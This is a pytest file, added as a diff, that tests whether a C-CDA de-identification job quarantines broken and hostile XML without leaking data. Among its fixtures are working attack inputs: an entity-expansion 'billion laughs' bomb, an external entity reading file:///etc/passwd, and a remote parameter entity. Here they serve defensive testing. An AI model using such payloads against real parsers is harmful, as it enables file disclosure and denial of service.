@@ -1,0 +1,139 @@
+"""Broken and hostile C-CDA documents through one job: each a code, nothing of them passed on."""
+
+from __future__ import annotations
+
+import json
+from datetime import date
+from pathlib import Path
+
+import pytest
+
+from deid.formats import cda_parsing
+from deid.job import Job, scrub
+from deid.policy import read_policy
+from recognizers import Finder
+
+DAY = date(2026, 11, 21)
+CANARY = "Quillonby"
+ROOT = '<ClinicalDocument xmlns="urn:hl7-org:v3">'
+END = "</ClinicalDocument>"
+TITLE = f"<title>{CANARY}</title>"
+BOMB = '<!ENTITY a "aaaaaaaaaa">' + "".join(
+    f'<!ENTITY {b} "{("&" + a + ";") * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
+)
+
+
+def _declared(encoding: str, text: str) -> str:
+    return f'<?xml version="1.0" encoding="{encoding}"?>{text}'
+
+
+# name: bytes, the code
+COLLECTION: dict[str, tuple[bytes, str]] = {
+    "laughs.xml": (
+        f"<!DOCTYPE x [{BOMB}]>{ROOT}<title>&i;{CANARY}</title>{END}".encode(),
+        "xml-dtd",
+    ),
+    "attribute_laughs.xml": (
+        f'<!DOCTYPE x [{BOMB}]>{ROOT}<id root="&i;"/>{TITLE}{END}'.encode(),
+        "xml-dtd",
+    ),
+    "external.xml": (
+        f'<!DOCTYPE ClinicalDocument SYSTEM "file:///etc/passwd">{ROOT}{TITLE}{END}'.encode(),
+        "xml-dtd",
+    ),
+    "parameter.xml": (
+        f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{CANARY}.test/d"> %p;]>{ROOT}{END}'.encode(),
+        "xml-dtd",
+    ),
+    "behind_comment.xml": (
+        f'<!-- {ROOT} --><?a b?><!DOCTYPE x [<!ENTITY a "{CANARY}">]>{ROOT}{END}'.encode(),
+        "xml-dtd",
+    ),
+    "wide_dtd.xml": (f"<!DOCTYPE x>{ROOT}{TITLE}{END}".encode("utf-16"), "xml-dtd"),
+    "undeclared.xml": (f"{ROOT}<title>&name;{CANARY}</title>{END}".encode(), "xml-entity"),
+    "deep.xml": (
+        (ROOT + "<component>" * 400 + CANARY + "</component>" * 400 + END).encode(),
+        "xml-limits",
+    ),
+    "long_name.xml": (f"{ROOT}<{'a' * 60_000}/>{TITLE}{END}".encode(), "xml-limits"),
+    "huge_attribute.xml": (
+        f'{ROOT}<id root="{CANARY}{"1" * 10_100_000}"/>{END}'.encode(),
+        "xml-limits",
+    ),
+    "cut.xml": (f"{ROOT}<title>{CANARY}".encode(), "broken-xml"),
+    "crossed.xml": (f"{ROOT}<title>{CANARY}{END}</title>".encode(), "broken-xml"),
+    "twice.xml": (f"{ROOT}{TITLE}{END}{ROOT}{END}".encode(), "broken-xml"),
+    "two_attributes.xml": (f'{ROOT}<id root="1" root="{CANARY}"/>{END}'.encode(), "broken-xml"),
+    "unbound.xml": (f"{ROOT}<sdtc:raceCode/>{TITLE}{END}".encode(), "broken-xml"),
+    "nul.xml": (f"{ROOT}<title>{CANARY}\0</title>{END}".encode(), "undecodable-bytes"),
+    "control.xml": (f"{ROOT}<title>{CANARY}&#1;</title>{END}".encode(), "undecodable-bytes"),
+    "bytes.xml": (f"{ROOT}<title>{CANARY}é</title>{END}".encode("latin-1"), "undecodable-bytes"),
+    "utf7.xml": (_declared("UTF-7", f"{ROOT}{TITLE}{END}").encode(), "encoding-unknown"),
+    "gb.xml": (_declared("GB18030", f"{ROOT}{TITLE}{END}").encode(), "encoding-unknown"),
+    "not_latin.xml": (
+        _declared("ISO-8859-1", f"{ROOT}<title>{CANARY} é</title>{END}").encode(),
+        "encoding-mismatch",
+    ),
+    "not_wide.xml": (_declared("UTF-16", f"{ROOT}{TITLE}{END}").encode(), "encoding-mismatch"),
+    "not_narrow.xml": (
+        _declared("UTF-8", f"{ROOT}{TITLE}{END}").encode("utf-16"),
+        "encoding-mismatch",
+    ),
+    "no_namespace.xml": (
+        f"<ClinicalDocument>{TITLE}</ClinicalDocument>".encode(),
+        "no-clinical-document",
+    ),
+    "inside.xml": (f"<wrapper>{ROOT}{TITLE}{END}</wrapper>".encode(), "no-clinical-document"),
+    "other.xml": (f"<Patient>{CANARY}</Patient>".encode(), "unknown-format"),
+    "ebcdic.xml": (_declared("IBM037", f"{ROOT}{TITLE}{END}").encode("cp037"), "unknown-format"),
+    "empty.xml": (b"", "unknown-format"),
+    "huge.xml": (f"{ROOT}{TITLE}{' ' * 20_000_000}{END}".encode(), "too-large"),
+}
+GOOD = f'{ROOT}<versionNumber value="7"/>{END}'
+
+
+@pytest.fixture(scope="module")
+def told(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[int, str]]:
+    folder = tmp_path_factory.mktemp("malformed")
+    (folder / "in").mkdir()
+    for name, (data, _) in COLLECTION.items():
+        (folder / "in" / name).write_bytes(data)
+    (folder / "in" / "whole.xml").write_text(GOOD, "utf-8")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(cda_parsing, "LARGEST", 15_000_000)
+        finder = Finder.load(model=False, reference_date=DAY)
+        release = scrub(
+            Job((folder / "in",), folder / "out", read_policy("safe_harbor"), DAY), finder
+        )
+    assert release.exit_code == 4
+    manifest = release.manifest
+    assert manifest["records_in"] == manifest["records_out"] + manifest["quarantined"]
+    lines = (folder / "out" / "_release" / "quarantine.jsonl").read_text().splitlines()
+    return folder / "out", {e["file"]: e["code"] for e in map(json.loads, lines)}
+
+
+@pytest.mark.parametrize("name", COLLECTION)
+def test_each_has_its_code(name: str, told: tuple[Path, dict[int, str]]) -> None:
+    names = sorted((*COLLECTION, "whole.xml"))
+    assert told[1][names.index(name) + 1] == COLLECTION[name][1]
+
+
+def test_nothing_broken_is_passed_on(told: tuple[Path, dict[int, str]]) -> None:
+    out, _ = told
+    assert sorted(path.name for path in out.glob("*.xml")) == ["whole.xml"]
+    for path in out.rglob("*"):
+        if path.is_file():
+            assert CANARY.encode() not in path.read_bytes()
+
+
+def test_the_whole_one_beside_them_leaves(told: tuple[Path, dict[int, str]]) -> None:
+    assert b'<versionNumber value="7"/>' in (told[0] / "whole.xml").read_bytes()
+
+
+def test_an_error_shows_no_value(tmp_path: Path) -> None:
+    for name, (data, _) in COLLECTION.items():
+        (tmp_path / name).write_bytes(data)
+        with pytest.raises(Exception) as caught:
+            cda_parsing.parse(tmp_path / name)
+        assert CANARY not in f"{caught.value!r}{caught.value}"
+        assert caught.value.__cause__ is None
